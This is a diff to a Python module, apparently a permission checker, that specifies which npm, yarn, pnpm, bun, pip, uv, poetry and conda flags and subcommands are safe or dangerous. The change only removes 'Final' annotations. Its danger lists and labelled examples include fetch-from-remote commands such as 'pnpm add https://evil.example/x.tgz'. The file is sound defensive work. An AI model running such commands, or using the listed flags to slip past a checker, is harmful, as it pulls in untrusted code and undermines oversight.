@@ -12,7 +12,7 @@ project's own tests, builds, linters and dev servers, at the trust of ``npm test
 """
 from __future__ import annotations
 
-from typing import Any, Final
+from typing import Any
 
 from phlegyas.analysis.programs.spec import (
     NAVIGATION,
@@ -29,7 +29,7 @@ from phlegyas.analysis.programs.spec import (
     subs,
 )
 
-SAFE_SCRIPT_WORDS: Final = frozenset({
+SAFE_SCRIPT_WORDS = frozenset({
     "test", "tests", "build", "lint", "format", "fmt", "check", "typecheck", "type-check", "types", "tsc",
     "compile", "coverage", "cov", "e2e", "unit", "integration", "spec", "validate", "verify", "prettier",
     "eslint", "stylelint", "pretest", "posttest", "prebuild", "postbuild", "clean-build", "lint-fix",
@@ -39,7 +39,7 @@ SAFE_SCRIPT_WORDS: Final = frozenset({
 })
 """Script names (first segment before ``:``/``-``) that ``npm run``/``yarn``/``pnpm``/``make`` may run safely."""
 
-PACKAGE_TOOLS: Final[dict[str, Spec]] = {}
+PACKAGE_TOOLS: dict[str, Spec] = {}
 """Language package managers, in the order of the program table."""
 
 
@@ -59,44 +59,44 @@ def _reader(flags: str, values: str = "", **kw) -> Spec:
 
 # -- npm -------------------------------------------------------------------------------------------
 
-_NPM_COMMON: Final = ("-d -dd -ddd --silent -s --quiet -q --verbose --json --parseable --long -l --no-color --color "
+_NPM_COMMON = ("-d -dd -ddd --silent -s --quiet -q --verbose --json --parseable --long -l --no-color --color "
                "--no-progress --progress --no-unicode --unicode --no-update-notifier --update-notifier --yes -y "
                "--no --offline --prefer-offline --prefer-online --no-audit --audit --no-fund --fund --workspaces "
                "--ws --include-workspace-root --if-present --foreground-scripts --ignore-scripts --force -f "
                "--dry-run -h --help --usage --no-workspaces")
-_NPM_COMMON_VALUES: Final = "-w --workspace --loglevel --omit --include --tag --before --min-release-age"
-_NPM_DANGER: Final[dict[str, Any]] = dict(load_flags=E("--prefix -C --userconfig --globalconfig --init-module"),
+_NPM_COMMON_VALUES = "-w --workspace --loglevel --omit --include --tag --before --min-release-age"
+_NPM_DANGER: dict[str, Any] = dict(load_flags=E("--prefix -C --userconfig --globalconfig --init-module"),
                    source_flags=E("--registry"), exec_flags=E("--script-shell --node-options"),
                    write_flags=E("--cache"))
-_NPM_SAVE: Final = ("-S --save --no-save -P --save-prod -D --save-dev -O --save-optional --save-peer -B --save-bundle "
+_NPM_SAVE = ("-S --save --no-save -P --save-prod -D --save-dev -O --save-optional --save-peer -B --save-bundle "
              "-E --save-exact --no-save-exact")
-_NPM_INSTALL_FLAGS: Final = (f"{_NPM_COMMON} {_NPM_SAVE} --legacy-bundling --global-style --strict-peer-deps "
+_NPM_INSTALL_FLAGS = (f"{_NPM_COMMON} {_NPM_SAVE} --legacy-bundling --global-style --strict-peer-deps "
                       "--legacy-peer-deps --prefer-dedupe --no-package-lock --package-lock-only --no-bin-links "
                       "--install-links --no-optional --production --strict-allow-scripts --engine-strict "
                       "--no-engine-strict")
-_NPM_INSTALL_VALUES: Final = (f"{_NPM_COMMON_VALUES} --install-strategy --allow-directory --allow-file --allow-git "
+_NPM_INSTALL_VALUES = (f"{_NPM_COMMON_VALUES} --install-strategy --allow-directory --allow-file --allow-git "
                        "--allow-remote --allow-scripts --min-release-age-exclude --cpu --os --libc --only")
-_npm_install: Final = _install(_NPM_INSTALL_FLAGS, _NPM_INSTALL_VALUES, handler="npm_install",
+_npm_install = _install(_NPM_INSTALL_FLAGS, _NPM_INSTALL_VALUES, handler="npm_install",
                         mutate_flags=E("-g --global --location"), **_NPM_DANGER)
-_npm_remove: Final = _install(f"{_NPM_COMMON} {_NPM_SAVE} --no-package-lock --package-lock-only --install-links --production",
+_npm_remove = _install(f"{_NPM_COMMON} {_NPM_SAVE} --no-package-lock --package-lock-only --install-links --production",
                        _NPM_COMMON_VALUES, mutate_flags=E("-g --global --location"), does="removes packages",
                        **_NPM_DANGER)
-_NPM_READ_FLAGS: Final = (f"{_NPM_COMMON} -a --all -g --global --link --package-lock-only --install-links --expect-results "
+_NPM_READ_FLAGS = (f"{_NPM_COMMON} -a --all -g --global --link --package-lock-only --install-links --expect-results "
                    "--no-expect-results --long --browser --no-browser")
-_NPM_READ_VALUES: Final = f"{_NPM_COMMON_VALUES} --depth --min-release-age-exclude --expect-result-count"
-_npm_read: Final = _reader(_NPM_READ_FLAGS, _NPM_READ_VALUES, load_flags=E("--prefix -C --userconfig --globalconfig"))
-_npm_diff: Final = _reader(f"{_NPM_READ_FLAGS} --diff-name-only --diff-ignore-all-space --diff-no-prefix --diff-text",
+_NPM_READ_VALUES = f"{_NPM_COMMON_VALUES} --depth --min-release-age-exclude --expect-result-count"
+_npm_read = _reader(_NPM_READ_FLAGS, _NPM_READ_VALUES, load_flags=E("--prefix -C --userconfig --globalconfig"))
+_npm_diff = _reader(f"{_NPM_READ_FLAGS} --diff-name-only --diff-ignore-all-space --diff-no-prefix --diff-text",
                     f"{_NPM_READ_VALUES} --diff --diff-unified --diff-src-prefix --diff-dst-prefix",
                     load_flags=E("--prefix -C --userconfig --globalconfig"))
-_npm_search: Final = _reader(f"{_NPM_READ_FLAGS} --description --no-description --json --parseable -p",
+_npm_search = _reader(f"{_NPM_READ_FLAGS} --description --no-description --json --parseable -p",
                       f"{_NPM_READ_VALUES} --searchlimit --searchopts --searchexclude --author --scope",
                       load_flags=E("--prefix -C --userconfig --globalconfig"))
-_NPM_SCRIPT_FLAGS: Final = f"{_NPM_COMMON} --if-present --no-if-present"
-_npm_test: Final = Spec(category=TEST_BUILD, operands="none", flags=E(_NPM_SCRIPT_FLAGS), value_opts=E(_NPM_COMMON_VALUES),
+_NPM_SCRIPT_FLAGS = f"{_NPM_COMMON} --if-present --no-if-present"
+_npm_test = Spec(category=TEST_BUILD, operands="none", flags=E(_NPM_SCRIPT_FLAGS), value_opts=E(_NPM_COMMON_VALUES),
                  does="runs project scripts", handler="npm_script", **_NPM_DANGER)
-_npm_run: Final = Spec(category=TEST_BUILD, operands="none", flags=E(_NPM_SCRIPT_FLAGS), value_opts=E(_NPM_COMMON_VALUES),
+_npm_run = Spec(category=TEST_BUILD, operands="none", flags=E(_NPM_SCRIPT_FLAGS), value_opts=E(_NPM_COMMON_VALUES),
                 handler="npm_run", does="runs a project script", **_NPM_DANGER)
-NPM: Final = Spec(
+NPM = Spec(
     operands="none", handler="package_globals", flags=E(f"{_NPM_COMMON} -v --version -g --global"),
     value_opts=E(_NPM_COMMON_VALUES), mutate_flags=E("-g --global --location"), **_NPM_DANGER,
     subcommands=subs({}, ("install i add in ins inst insta instal isnt isnta isntal isntall ci clean-install "
@@ -142,29 +142,29 @@ _add("npm", NPM)
 
 # -- yarn, pnpm, bun -------------------------------------------------------------------------------
 
-_RUNNER_PASS: Final = ("--watch --coverage --ci --verbose --silent -u --updateSnapshot --run --passWithNoTests --bail "
+_RUNNER_PASS = ("--watch --coverage --ci --verbose --silent -u --updateSnapshot --run --passWithNoTests --bail "
                 "--open --host --no-open --watchAll --detectOpenHandles --runInBand -i --clearCache --fix")
 """The arguments ``yarn test --watch`` hands to the project's test script that everyone types: harmless
 switches of the common test runners and dev servers (a value that names a file or config is not here)."""
-_RUNNER_PASS_VALUES: Final = "--port --reporter -t --testNamePattern --mode --shard --maxWorkers"
-_YARN_COMMON: Final = ("--verbose --silent -s --offline --prefer-offline --no-progress --non-interactive --json "
+_RUNNER_PASS_VALUES = "--port --reporter -t --testNamePattern --mode --shard --maxWorkers"
+_YARN_COMMON = ("--verbose --silent -s --offline --prefer-offline --no-progress --non-interactive --json "
                 "--no-default-rc --ignore-engines --ignore-platform --ignore-optional --emoji --no-emoji -h --help")
-_YARN_DANGER: Final[dict[str, Any]] = dict(load_flags=E("--cwd --use-yarnrc"), source_flags=E("--registry"),
+_YARN_DANGER: dict[str, Any] = dict(load_flags=E("--cwd --use-yarnrc"), source_flags=E("--registry"),
                     write_flags=E("--cache-folder --modules-folder --global-folder --link-folder"))
-_YARN_INSTALL: Final = (f"{_YARN_COMMON} --frozen-lockfile --pure-lockfile --immutable --immutable-cache --check-cache "
+_YARN_INSTALL = (f"{_YARN_COMMON} --frozen-lockfile --pure-lockfile --immutable --immutable-cache --check-cache "
                  "--check-files --refresh-lockfile --production --prod --ignore-scripts --force --flat --har "
                  "--no-lockfile --inline-builds --skip-builds --no-bin-links --link-duplicates --audit "
                  "-D --dev -P --peer -O --optional -E --exact -T --tilde -W --ignore-workspace-root-check "
                  "--cached -i --interactive -L --latest -C --caret --prefer-dev")
-_YARN_VALUES: Final = "--network-timeout --network-concurrency --mode --mutex --scope --pattern"
-_yarn_install: Final = _install(_YARN_INSTALL, _YARN_VALUES, handler="npm_install", **_YARN_DANGER)
-_yarn_script: Final = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_YARN_COMMON} {_RUNNER_PASS}"),
+_YARN_VALUES = "--network-timeout --network-concurrency --mode --mutex --scope --pattern"
+_yarn_install = _install(_YARN_INSTALL, _YARN_VALUES, handler="npm_install", **_YARN_DANGER)
+_yarn_script = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_YARN_COMMON} {_RUNNER_PASS}"),
                     value_opts=E(_RUNNER_PASS_VALUES), does="runs project scripts",
                     handler="npm_script", **_YARN_DANGER)
-_yarn_run: Final = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_YARN_COMMON} {_RUNNER_PASS}"),
+_yarn_run = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_YARN_COMMON} {_RUNNER_PASS}"),
                  value_opts=E(_RUNNER_PASS_VALUES), handler="npm_run", does="runs a project script",
                  **_YARN_DANGER)
-_yarn_read: Final = _reader(f"{_YARN_COMMON} -v --version -R --recursive --all -A --patterns",
+_yarn_read = _reader(f"{_YARN_COMMON} -v --version -R --recursive --all -A --patterns",
                      f"{_YARN_VALUES} --depth --pattern")
 _add("yarn", Spec(operands="none", handler="yarn_script", flags=E(f"{_YARN_COMMON} -v --version"),
                   value_opts=E(_YARN_VALUES), **_YARN_DANGER,
@@ -182,28 +182,28 @@ _add("yarn", Spec(operands="none", handler="yarn_script", flags=E(f"{_YARN_COMMO
                             ("yarn add git+https://github.com/x/y", "notsafe"), ("yarn test --watch", "safe"),
                             ("yarn --cwd /tmp/x install", "notsafe"))))
 
-_PNPM_COMMON: Final = ("-r --recursive -w --workspace-root --silent -s --verbose --no-color --color --aggregate-output "
+_PNPM_COMMON = ("-r --recursive -w --workspace-root --silent -s --verbose --no-color --color --aggregate-output "
                 "--stream --parallel --use-stderr --fail-if-no-match --include-workspace-root -h --help "
                 "--if-present --no-bail --bail --sort --no-sort --resume-from --changed-files-ignore-pattern "
                 "--workspace-packages --reverse --report-summary --json")
-_PNPM_VALUES: Final = "-F --filter --filter-prod --loglevel --reporter --workspace-concurrency --test-pattern"
-_PNPM_DANGER: Final[dict[str, Any]] = dict(load_flags=E("-C --dir --config-dir"), source_flags=E("--registry"),
+_PNPM_VALUES = "-F --filter --filter-prod --loglevel --reporter --workspace-concurrency --test-pattern"
+_PNPM_DANGER: dict[str, Any] = dict(load_flags=E("-C --dir --config-dir"), source_flags=E("--registry"),
                     write_flags=E("--store-dir --cache-dir --virtual-store-dir --modules-dir"))
-_PNPM_INSTALL: Final = (f"{_PNPM_COMMON} --frozen-lockfile --no-frozen-lockfile --prefer-frozen-lockfile --lockfile-only "
+_PNPM_INSTALL = (f"{_PNPM_COMMON} --frozen-lockfile --no-frozen-lockfile --prefer-frozen-lockfile --lockfile-only "
                  "--fix-lockfile --offline --prefer-offline -P --prod -D --dev --no-optional --ignore-scripts "
                  "--shamefully-hoist --force --strict-peer-dependencies --resolution-only --save-dev "
                  "--save-prod -O --save-optional -E --save-exact --save-peer --no-save --ignore-workspace "
                  "-L --latest -i --interactive --depth --recursive --ignore-pnpmfile --config.ignore-scripts")
-_pnpm_install: Final = _install(_PNPM_INSTALL, f"{_PNPM_VALUES} --depth --network-concurrency --child-concurrency "
+_pnpm_install = _install(_PNPM_INSTALL, f"{_PNPM_VALUES} --depth --network-concurrency --child-concurrency "
                                         "--node-linker --package-import-method", handler="npm_install",
                          mutate_flags=E("-g --global"), **_PNPM_DANGER)
-_pnpm_script: Final = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_PNPM_COMMON} {_RUNNER_PASS}"),
+_pnpm_script = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_PNPM_COMMON} {_RUNNER_PASS}"),
                     value_opts=E(f"{_PNPM_VALUES} {_RUNNER_PASS_VALUES}"), does="runs project scripts",
                     handler="npm_script", **_PNPM_DANGER)
-_pnpm_run: Final = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_PNPM_COMMON} {_RUNNER_PASS}"),
+_pnpm_run = Spec(category=TEST_BUILD, operands="none", flags=E(f"{_PNPM_COMMON} {_RUNNER_PASS}"),
                  value_opts=E(f"{_PNPM_VALUES} {_RUNNER_PASS_VALUES}"), handler="npm_run",
                  does="runs a project script", **_PNPM_DANGER)
-_pnpm_read: Final = _reader(f"{_PNPM_COMMON} -g --global -P --prod -D --dev --no-optional --long --parseable -a --all "
+_pnpm_read = _reader(f"{_PNPM_COMMON} -g --global -P --prod -D --dev --no-optional --long --parseable -a --all "
                      "--only-projects --compatible", f"{_PNPM_VALUES} --depth --format --audit-level",
                      load_flags=E("-C --dir"))
 _add("pnpm", Spec(operands="none", handler="yarn_script", flags=E(f"{_PNPM_COMMON} -v --version"),
@@ -224,10 +224,10 @@ _add("pnpm", Spec(operands="none", handler="yarn_script", flags=E(f"{_PNPM_COMMO
                             ("pnpm add -D vitest@1.6.0", "safe"), ("pnpm add https://evil.example/x.tgz", "notsafe"),
                             ("pnpm -r --filter web build", "safe"), ("pnpm add -g x", "notsafe"))))
 
-_BUN_COMMON: Final = "--silent --verbose --no-progress --no-summary -h --help --dry-run --frozen-lockfile --yarn"
-_BUN_DANGER: Final[dict[str, Any]] = dict(load_flags=E("--cwd --cafile --config -c"), source_flags=E("--registry"),
+_BUN_COMMON = "--silent --verbose --no-progress --no-summary -h --help --dry-run --frozen-lockfile --yarn"
+_BUN_DANGER: dict[str, Any] = dict(load_flags=E("--cwd --cafile --config -c"), source_flags=E("--registry"),
                    write_flags=E("--cache-dir"))
-_bun_install: Final = _install(f"{_BUN_COMMON} -d -D --dev --development --optional --peer -E --exact -p --production "
+_bun_install = _install(f"{_BUN_COMMON} -d -D --dev --development --optional --peer -E --exact -p --production "
                         "--no-save --save --force -f --ignore-scripts --trust --lockfile-only --save-text-lockfile "
                         "--no-cache --no-verify --only-missing -i --interactive --latest -a --analyze",
                         "--backend --concurrent-scripts --network-concurrency --omit --linker --ca --filter -F",
@@ -275,18 +275,18 @@ _add("npx pnpx bunx", Spec(operands="none", handler="npx", does="runs a package"
 
 # -- pip -------------------------------------------------------------------------------------------
 
-_PIP_GENERAL: Final = ("-h --help --debug --isolated --require-virtualenv -v --verbose -V --version -q --quiet --no-input "
+_PIP_GENERAL = ("-h --help --debug --isolated --require-virtualenv -v --verbose -V --version -q --quiet --no-input "
                 "--no-cache-dir --disable-pip-version-check --no-color --no-python-version-warning")
-_PIP_GENERAL_VALUES: Final = "--retries --timeout --exists-action --use-feature --use-deprecated --keyring-provider " \
+_PIP_GENERAL_VALUES = "--retries --timeout --exists-action --use-feature --use-deprecated --keyring-provider " \
                       "--resume-retries"
-_PIP_DANGER: Final[dict[str, Any]] = dict(load_flags=E("--python --cert --client-cert"), source_flags=E("--proxy --trusted-host"),
+_PIP_DANGER: dict[str, Any] = dict(load_flags=E("--python --cert --client-cert"), source_flags=E("--proxy --trusted-host"),
                    write_flags=E("--log --log-file --cache-dir"))
-_PIP_INDEX: Final = "-i --index-url --extra-index-url -f --find-links"
-_PIP_INSTALL: Final = (f"{_PIP_GENERAL} --no-deps --pre --dry-run -I --ignore-installed --ignore-requires-python -U "
+_PIP_INDEX = "-i --index-url --extra-index-url -f --find-links"
+_PIP_INSTALL = (f"{_PIP_GENERAL} --no-deps --pre --dry-run -I --ignore-installed --ignore-requires-python -U "
                 "--upgrade --force-reinstall --no-build-isolation --use-pep517 --no-use-pep517 "
                 "--check-build-dependencies --compile --no-compile --no-warn-script-location --no-warn-conflicts "
                 "--prefer-binary --require-hashes --no-clean --no-index --user")
-_PIP_INSTALL_VALUES: Final = (f"{_PIP_GENERAL_VALUES} -e --editable --platform --python-version --implementation --abi "
+_PIP_INSTALL_VALUES = (f"{_PIP_GENERAL_VALUES} -e --editable --platform --python-version --implementation --abi "
                        "--upgrade-strategy -C --config-settings --global-option --build-option --no-binary "
                        "--only-binary --progress-bar --root-user-action")
 
@@ -305,7 +305,7 @@ def _pip_read(flags: str = "", values: str = "", **kw) -> Spec:
               **{**_PIP_DANGER, **kw})
 
 
-PIP: Final = Spec(operands="none", handler="package_globals", flags=E(_PIP_GENERAL), value_opts=E(_PIP_GENERAL_VALUES),
+PIP = Spec(operands="none", handler="package_globals", flags=E(_PIP_GENERAL), value_opts=E(_PIP_GENERAL_VALUES),
            **_PIP_DANGER,
            subcommands=subs({}, ("install", _pip_install()), ("download", _pip_install("--no-verify", "-d --dest")),
                ("wheel", _pip_install("--no-verify", "-w --wheel-dir")),
@@ -347,24 +347,24 @@ _add("pipx", Spec(operands="none", subcommands=subs({}, ("run", Spec(operands="n
 
 # -- uv --------------------------------------------------------------------------------------------
 
-_UV_GLOBAL: Final = ("-q --quiet -v --verbose --native-tls --no-native-tls --offline --no-offline --no-progress --no-config "
+_UV_GLOBAL = ("-q --quiet -v --verbose --native-tls --no-native-tls --offline --no-offline --no-progress --no-config "
               "-n --no-cache --managed-python --no-managed-python --no-python-downloads --preview --no-preview "
               "-h --help -V --version")
-_UV_GLOBAL_VALUES: Final = "--color --python-preference"
-_UV_DANGER: Final[dict[str, Any]] = dict(load_flags=E("--directory --project --config-file"), source_flags=E("--allow-insecure-host"),
+_UV_GLOBAL_VALUES = "--color --python-preference"
+_UV_DANGER: dict[str, Any] = dict(load_flags=E("--directory --project --config-file"), source_flags=E("--allow-insecure-host"),
                   write_flags=E("--cache-dir"))
-_UV_RESOLVE: Final = ("--no-index -U --upgrade --reinstall --refresh --no-build-isolation --no-build --no-binary "
+_UV_RESOLVE = ("--no-index -U --upgrade --reinstall --refresh --no-build-isolation --no-build --no-binary "
                "--no-sources --compile-bytecode --no-compile-bytecode --all-extras --no-dev --only-dev --dev "
                "--no-default-groups --all-groups --no-editable --locked --frozen --dry-run --all-packages --active "
                "--no-active --exact --inexact --no-install-project --no-install-workspace --no-install-local "
                "--no-sync --check --check-exists")
-_UV_RESOLVE_VALUES: Final = ("-P --upgrade-package --reinstall-package --refresh-package --no-build-isolation-package "
+_UV_RESOLVE_VALUES = ("-P --upgrade-package --reinstall-package --refresh-package --no-build-isolation-package "
                       "--no-build-package --no-binary-package --only-binary --index-strategy --keyring-provider "
                       "--resolution --prerelease --fork-strategy --exclude-newer --exclude-newer-package --link-mode "
                       "-C --config-setting --config-settings-package --no-sources-package --python-platform "
                       "-p --python --extra --no-extra --group --no-group --only-group --package "
                       "--no-install-package --output-format --python-version")
-_UV_INDEX: Final = "--index --default-index -i --index-url --extra-index-url -f --find-links"
+_UV_INDEX = "--index --default-index -i --index-url --extra-index-url -f --find-links"
 
 
 def _uv(flags: str = "", values: str = "", *, category: str | None = PKG_INSTALL, handler: str | None = "uv_packages",
@@ -380,7 +380,7 @@ def _uv(flags: str = "", values: str = "", *, category: str | None = PKG_INSTALL
                 mutate_flags=E(mutates), **kw)
 
 
-_uv_pip: Final = Spec(operands="none", flags=E(_UV_GLOBAL), value_opts=E(_UV_GLOBAL_VALUES), **_UV_DANGER,
+_uv_pip = Spec(operands="none", flags=E(_UV_GLOBAL), value_opts=E(_UV_GLOBAL_VALUES), **_UV_DANGER,
                subcommands=subs({}, ("install", _uv("--no-deps --strict --user --require-hashes --no-verify-hashes "
                                                     "--torch-backend", "-e --editable --torch-backend",
                                                     loads="-r --requirements -c --constraints --overrides "
@@ -406,7 +406,7 @@ _uv_pip: Final = Spec(operands="none", flags=E(_UV_GLOBAL), value_opts=E(_UV_GLO
                                     "--prune --target --prefix", category=READ_ONLY, handler="uv_packages",
                                     readonly=True))),
                examples=(("uv pip list", "readonly safe"),))
-UV: Final = Spec(operands="none", handler="package_globals", flags=E(_UV_GLOBAL), value_opts=E(_UV_GLOBAL_VALUES),
+UV = Spec(operands="none", handler="package_globals", flags=E(_UV_GLOBAL), value_opts=E(_UV_GLOBAL_VALUES),
           **_UV_DANGER,
           subcommands=subs({}, ("pip", _uv_pip), ("sync", _uv()), ("lock", _uv(does="resolves the lock file")),
               ("add", _uv("--editable --raw --raw-sources --workspace --no-workspace",
@@ -455,9 +455,9 @@ _add("uvx", Spec(operands="none", handler="npx", does="runs a tool", examples=((
 
 # -- poetry, pdm, hatch, rye, pipenv ---------------------------------------------------------------
 
-_POETRY_GLOBAL: Final = ("-h --help -q --quiet -V --version --ansi --no-ansi -n --no-interaction --no-plugins --no-cache "
+_POETRY_GLOBAL = ("-h --help -q --quiet -V --version --ansi --no-ansi -n --no-interaction --no-plugins --no-cache "
                   "-v -vv -vvv --verbose")
-_GROUPS: Final = "--without --with --only -E --extras -G --group"
+_GROUPS = "--without --with --only -E --extras -G --group"
 
 
 def _project_tool(flags: str, values: str = "", *, category: str | None = PKG_INSTALL, handler: str | None = None,
@@ -471,28 +471,28 @@ def _project_tool(flags: str, values: str = "", *, category: str | None = PKG_IN
                 mutate_flags=E(kw.pop("mutates", "")), **kw)
 
 
-_LOCKED: Final = "--lock --dry-run --no-update --check --regenerate --sync --no-dev --frozen-lockfile --no-lock --locked"
-_poetry_install: Final = _project_tool(f"{_LOCKED} --no-root --no-directory --all-extras --all-groups --only-root "
+_LOCKED = "--lock --dry-run --no-update --check --regenerate --sync --no-dev --frozen-lockfile --no-lock --locked"
+_poetry_install = _project_tool(f"{_LOCKED} --no-root --no-directory --all-extras --all-groups --only-root "
                                 "--compile --remove-untracked --prod --production -d --dev --no-editable --no-self "
                                 "--fail-fast -x --no-isolation --deploy --ignore-pipfile --skip-lock --pre "
                                 "--keep-outdated --selective-upgrade --clear --all --all-dev --no-sync",
                                 "--categories --python --venv --skip", handler="python_project_add",
                                 loads="-r --requirements", mutates="-g --global --system")
-_poetry_add: Final = _project_tool(f"{_LOCKED} -D --dev --optional --allow-prereleases --save-compatible --save-wildcard "
+_poetry_add = _project_tool(f"{_LOCKED} -D --dev --optional --allow-prereleases --save-compatible --save-wildcard "
                             "--save-exact --save-minimum --save-safe-compatible -u --unconstrained --update-reuse "
                             "--update-eager --update-all --pre --prerelease --stable --no-sync --no-editable "
                             "--no-self --fail-fast -x --no-isolation --dev --all-extras --all-groups -d",
                             "-e --editable --python --platform --markers --venv --categories",
                             handler="python_project_add", loads="-r --requirements", mutates="-g --global")
-_project_read: Final = _project_tool("--tree --why -l --latest -o --outdated -a --all -T --top-level --no-dev --lock "
+_project_read = _project_tool("--tree --why -l --latest -o --outdated -a --all -T --top-level --no-dev --lock "
                               "--strict --path -e --executable --json --csv --markdown --freeze --graph "
                               "--reverse --sort --full-path", "--fields --format --exclude --include",
                               category=READ_ONLY, readonly=True)
-_project_build: Final = _project_tool("--clean --no-sdist --no-wheel --no-clean -q --quiet", "-f --format "
+_project_build = _project_tool("--clean --no-sdist --no-wheel --no-clean -q --quiet", "-f --format "
                                "--config-settings -t --target", category=TEST_BUILD, does="builds the project",
                                write_flags=E("-o --output -d --dest"))
-_PROJECT_RUN: Final = Spec(operands="none", handler="uv_run", does="runs a command in the project environment")
-_PROJECT_MUT: Final = mut("changes packages or settings", operands="none")
+_PROJECT_RUN = Spec(operands="none", handler="uv_run", does="runs a command in the project environment")
+_PROJECT_MUT = mut("changes packages or settings", operands="none")
 
 
 def _python_manager(extra: tuple[tuple[str, Spec], ...] = (), examples: tuple[tuple[str, str], ...] = ()) -> Spec:
@@ -511,7 +511,7 @@ def _python_manager(extra: tuple[tuple[str, Spec], ...] = (), examples: tuple[tu
                 examples=examples)
 
 
-_env: Final = Spec(operands="none", subcommands=subs({}, ("info list show find", _project_read), ("*", _PROJECT_MUT)))
+_env = Spec(operands="none", subcommands=subs({}, ("info list show find", _project_read), ("*", _PROJECT_MUT)))
 _add("poetry", _python_manager((("env", _env),), (
     ("poetry install", "safe"), ("poetry run pytest", "safe"), ("poetry publish", "notsafe"),
     ("poetry install --no-root --with dev", "safe"), ("poetry add 'requests@^2.31'", "safe"),
@@ -537,7 +537,7 @@ _add("hatch", Spec(operands="none", handler="package_globals", flags=E(_POETRY_G
 
 # -- conda -----------------------------------------------------------------------------------------
 
-_CONDA_READ: Final = _reader("--json -e --export --explicit --revisions -f --full-name --show-channel-urls --no-pip "
+_CONDA_READ = _reader("--json -e --export --explicit --revisions -f --full-name --show-channel-urls --no-pip "
                       "--canonical --md5 -v --verbose -q --quiet --envs -a --all --base -s --system --offline "
                       "--override-channels --info -i --use-index-cache --platform --unknown -h --help",
                       "-n --name -p --prefix --subdir --platform -c --channel")
